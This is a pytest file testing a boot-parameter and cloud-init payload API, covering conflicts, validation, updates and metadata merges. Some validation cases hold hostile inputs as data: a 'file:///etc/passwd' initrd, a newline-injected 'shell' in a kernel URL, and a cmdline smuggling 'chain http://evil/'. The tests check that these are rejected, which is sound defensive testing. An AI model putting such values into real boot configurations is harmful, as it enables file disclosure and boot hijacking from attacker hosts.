"""Boot parameters and cloud-init payloads."""

import pytest

from tests.helpers.api import NODE, create, problem_of

PARAMS = "/boot/v1/bootparams"
PAYLOADS = "/cloud-init/payloads"


async def test_bootparams_scopes_and_conflicts(api, conn):
    await create(api, "/hsm/v2/State/Components", NODE)
    site = await create(api, PARAMS, {"spec": {"kernel": "http://images/vmlinuz"}})
    assert site["spec"]["initrd"] == "" and site["metadata"]["id"].startswith("bp-")
    problem_of(await api.post(PARAMS, json={"spec": {"kernel": "http://other"}}), 409)
    await create(api, PARAMS, {"metadata": {"id": "by-mac"}, "spec": {"mac": "AA-BB-CC-00-00-01",
                                                                       "kernel": "tftp://10.0.0.1/k"}})
    assert await conn.fetchval("SELECT mac FROM bss.boot_params WHERE id = 'by-mac'") == "aa:bb:cc:00:00:01"
    await create(api, PARAMS, {"spec": {"componentId": "node-1", "kernel": "https://images/k", "initrd": "https://i",
                                        "cmdline": "console=ttyS0 nid={{nid}}"}})
    await create(api, PARAMS, {"spec": {"role": "Compute", "kernel": "http://k"}})
    body = problem_of(await api.post(PARAMS, json={"spec": {"role": "Compute", "kernel": "http://k2"}}), 409)
    assert "role" in body["detail"]
    listed = (await api.get(f"{PARAMS}?componentId=node-1")).json()
    assert listed["metadata"]["total"] == 1
    assert (await api.get(f"{PARAMS}?mac=aabbcc000001")).json()["items"][0]["metadata"]["id"] == "by-mac"


@pytest.mark.parametrize(("spec", "field"), [
    ({"kernel": "ftp://x/k"}, "$.spec.kernel"),
    ({"kernel": "vmlinuz"}, "$.spec.kernel"),
    ({"kernel": "http://k", "initrd": "file:///etc/passwd"}, "$.spec.initrd"),
    ({"kernel": "http://k\nshell"}, "$.spec.kernel"),
    ({"kernel": "http://k", "cmdline": "quiet\nchain http://evil/"}, "$.spec.cmdline"),
    ({"kernel": "http://k", "role": "Compute", "group": "g"}, "$.spec."),
    ({"kernel": "http://k", "mac": "nope"}, "$.spec.mac"),
    ({"kernel": "http://k", "componentId": "ghost"}, "$.spec.componentId"),
    ({"kernel": "http://k", "group": "ghost"}, "$.spec.group"),
    ({"kernel": "http://k", "role": "Wizard"}, "$.spec.role"),
    ({}, "$.spec"),
])
async def test_bootparams_validation(api, conn, spec, field):
    problem = problem_of(await api.post(PARAMS, json={"spec": spec}), 422)
    assert problem["errors"][0]["field"].startswith(field)
    assert await conn.fetchval("SELECT count(*) FROM bss.boot_params") == 0


async def test_bootparams_put_patch_delete(api):
    created = await create(api, PARAMS, {"metadata": {"id": "site"}, "spec": {"kernel": "http://k1"}})
    problem_of(await api.put(f"{PARAMS}/site", json={"spec": {"kernel": "http://k2"}}), 428)
    put = await api.put(f"{PARAMS}/site", json={"spec": {"kernel": "http://k2"}},
                        headers={"If-Match": created["metadata"]["etag"]})
    assert put.json()["spec"]["kernel"] == "http://k2"
    patched = await api.patch(f"{PARAMS}/site", json={"spec": {"cmdline": "quiet"}})
    assert patched.json()["spec"] == {"mac": None, "componentId": None, "nid": None, "group": None, "role": None,
                                      "kernel": "http://k2", "initrd": "", "cmdline": "quiet"}
    assert (await api.delete(f"{PARAMS}/site")).status_code == 204
    problem_of(await api.get(f"{PARAMS}/site"), 404)


@pytest.mark.parametrize("user_data", [
    "#cloud-config\npackages: [htop]\n", "#!/bin/sh\necho hi\n", "#include\nhttp://x/y\n",
    "#cloud-boothook\n#!/bin/sh\n", "## template: jinja\n#cloud-config\n", "#cloud-config-archive\n- type: x\n",
    "Content-Type: multipart/mixed; boundary=XX\nMIME-Version: 1.0\n\n--XX\nContent-Type: text/x-shellscript\n\n"
    "#!/bin/sh\necho\n--XX--\n",
])
async def test_payload_accepts_what_cloud_init_accepts(api, user_data):
    body = await create(api, PAYLOADS, {"spec": {"userData": user_data, "metaData": {"a": {"b": 1}}}})
    assert body["spec"]["userData"] == user_data


@pytest.mark.parametrize(("spec", "fragment"), [
    ({"userData": "hello world"}, "cloud-init would ignore"),
    ({"userData": "#cloud-config\nfoo: [unclosed\n"}, "not valid YAML"),
    ({"userData": "#cloud-config\n- a list\n"}, "mapping"),
    ({"vendorData": "plain"}, "cloud-init would ignore"),
    ({"metaData": ["not", "an", "object"]}, "object"),
    ({"metaData": {"instance-id": "mine"}}, "computed"),
    ({"userData": 5}, "str"),
])
async def test_payload_validation(api, conn, spec, fragment):
    problem = problem_of(await api.post(PAYLOADS, json={"spec": spec}), 422)
    assert fragment in problem["detail"]
    assert await conn.fetchval("SELECT count(*) FROM cloudinit.payloads") == 0


async def test_payload_scope_and_merge_patch_of_metadata(api):
    await create(api, "/hsm/v2/State/Components", NODE)
    created = await create(api, PAYLOADS, {"metadata": {"id": "n1"}, "spec": {
        "componentId": "node-1", "metaData": {"keep": 1, "drop": 2, "nested": {"a": 1, "b": 2}}}})
    problem_of(await api.post(PAYLOADS, json={"spec": {"componentId": "node-1"}}), 409)
    patched = await api.patch(f"{PAYLOADS}/n1", json={"spec": {"metaData": {"drop": None, "nested": {"b": None}}}},
                              headers={"If-Match": created["metadata"]["etag"]})
    assert patched.json()["spec"]["metaData"] == {"keep": 1, "nested": {"a": 1}}
